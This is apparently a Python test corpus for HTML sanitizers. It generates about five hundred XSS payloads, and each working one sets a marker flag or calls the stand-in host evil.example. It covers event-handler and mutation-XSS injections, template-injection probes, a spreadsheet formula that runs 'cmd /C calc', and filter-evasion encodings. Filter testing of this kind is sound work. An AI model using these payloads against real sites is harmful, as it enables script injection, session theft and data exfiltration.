"""Five hundred ways to make a page run a stranger's script or call a stranger's machine.

Each one that works sets `globalThis.broke`, opens a dialog, or asks evil.example for something.
They are made from ways in, things to do and disguises; sources of the families: the OWASP cheat
sheet on filter evasion, the HTML standard's list of event handlers, papers on mutation XSS.
"""

from __future__ import annotations

DO = "globalThis.broke=1"
CALL = "//evil.example/x"
EVENTS = (
    *("onload", "onerror", "onclick", "onfocus", "onmouseover", "onanimationstart", "onscroll"),
    *("ontoggle", "onpointerenter", "onbeforetoggle", "oncontentvisibilityautostatechange"),
    *("onwheel", "onpageshow", "onresize", "onhashchange", "ontransitionend", "onbegin", "onend"),
)
TAGS = (
    *("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x"),
    *(
        "iframe src=x",
        "marquee",
        "object data=x",
        "select autofocus",
        "textarea autofocus",
        "style",
    ),
    *("style", "xss tabindex=1", "math", "dialog open", "button popovertarget=x"),
)
WHOLE = (
    f"<script>{DO}</script>",
    f"<script src={CALL}></script>",
    f"<script type=module>import '{CALL}'</script>",
    f"<script>fetch('{CALL}')</script>",
    f"<link rel=stylesheet href={CALL}>",
    f"<link rel=prefetch href={CALL}><link rel=dns-prefetch href={CALL}>",
    f"<link rel=preconnect href={CALL}>",
    f"<img src={CALL}>",
    f"<img srcset='{CALL} 1x, {CALL}2 2x'>",
    f"<picture><source srcset={CALL}></picture>",
    f"<video poster={CALL}></video>",
    f"<audio autoplay src={CALL}></audio>",
    f"<embed src={CALL}>",
    f"<object data={CALL}></object>",
    f"<iframe src={CALL}></iframe>",
    "<iframe srcdoc='<script>parent.broke=1</script>'></iframe>",
    "<iframe src='javascript:parent.broke=1'></iframe>",
    f"<frameset><frame src={CALL}></frameset>",
    f"<base href={CALL}>",
    f"<meta http-equiv=refresh content='0;url=https:{CALL}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{DO}'>",
    f"<style>@import '{CALL}';</style>",
    f"<style>*{{background:url({CALL})}}</style>",
    f"<p style='background:url({CALL})'>",
    f"<table background={CALL}><tr><td background={CALL}></table>",
    f"<form action={CALL}><button autofocus>",
    f"<a href={CALL} ping={CALL}>",
    f"<svg><image href={CALL} /></svg>",
    f"<svg><use href={CALL}#x /></svg>",
    f"<svg><script>{DO}</script></svg>",
    f"<svg><script href={CALL} /></svg>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{DO} /><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={DO}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={DO}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={DO}>",
    f"<noscript><p title='</noscript><img src=x onerror={DO}>'>",
    f"<template><img src=x onerror={DO}></template>",
    f"<title><img src=x onerror={DO}></title>",
    f"<textarea><img src=x onerror={DO}></textarea>",
    f"<select><img src=x onerror={DO}></select>",
    f"<!--<img src='--><img src=x onerror={DO}//'>",
    f"<![CDATA[<img src=x onerror={DO}>]]>",
    f"<?xml-stylesheet href='javascript:{DO}'?>",
    f"<xml><i><b><img src=x onerror={DO}></b></i></xml>",
    f"<isindex action=javascript:{DO} type=image>",
    f"<portal src={CALL}>",
    f"<fencedframe src={CALL}>",
    f"<speculationrules>{CALL}</speculationrules>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{CALL}"]}}]}}</script>',
    f'<script type=importmap>{{"imports":{{"x":"{CALL}"}}}}</script>',
    f"<div><template shadowrootmode=open><script>{DO}</script></template></div>",
    "{{7*7}}{{constructor.constructor('" + DO + "')()}}",
    "{% import os %}{{ config }}{{ ''.__class__.__mro__ }}",
    "${" + DO + "}#{" + DO + "}<%= " + DO + " %>",
    f"[clic](javascript:{DO})![x]({CALL})",
    f'=HYPERLINK("{CALL}","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    f"data:text/html,<script>{DO}</script>",
    f"javascript:{DO}",
    f"vbscript:{DO}",
    f"java\tscript:{DO}",
    f"\u202ejavascript:{DO}",
    f"'-{DO}-'",
    f"\\';{DO}//",
    f"\u2028{DO}\u2029",
    f"</textarea><img src=x onerror={DO}>",
    f"</title><img src=x onerror={DO}>",
    f"</style><img src=x onerror={DO}>",
    f"</script><script>{DO}</script>",
    f"</pre></dd></dl></section></main><script>{DO}</script>",
    f"--><script>{DO}</script>",
    f"]]><script>{DO}</script>",
    f"%3Cscript%3E{DO}%3C/script%3E",
    f"&lt;script&gt;{DO}&lt;/script&gt;",
    f"&#60;script&#62;{DO}&#60;/script&#62;",
    f"\\u003cscript\\u003e{DO}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{DO}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{DO}+ADw-/script+AD4-",
    f"\u02bascript\u02ba{DO}",
)


def _disguised(payload: str) -> tuple[str, ...]:
    """Return the same in the dresses that filters have let through."""
    return (
        payload.replace("script", "ScRiPt"),
        payload.replace(" ", "/"),
        payload.replace(" ", "\u00a0"),
        payload.replace("<", "<\u200b", 1) + payload,
        f'"{payload}',
        f"'>{payload}",
        f'">{payload}',
        f"`{payload}`",
        f"<<{payload}",
        payload.removesuffix(">"),
    )


def _all() -> tuple[str, ...]:
    events = [f"<{tag} {event}={DO}>" for tag in TAGS for event in EVENTS]
    quoted = [f'" {event}="{DO}" autofocus x="' for event in EVENTS]
    single = [f"' {event}='{DO}' autofocus x='" for event in EVENTS]
    dressed = [each for payload in WHOLE[:24] for each in _disguised(payload)]
    whole = [*WHOLE, *quoted, *single, *dressed, *events]
    return tuple(dict.fromkeys(whole))


PAYLOADS = _all()


def groups(most: int, longest: int) -> list[str]:
    """Return all payloads in texts of at most `most` payloads and `longest` characters."""
    texts = [""]
    held = 0
    for payload in PAYLOADS:
        if held == most or len(texts[-1]) + len(payload) + 1 > longest:
            texts.append("")
            held = 0
        texts[-1] += f"{payload} "
        held += 1
    return texts
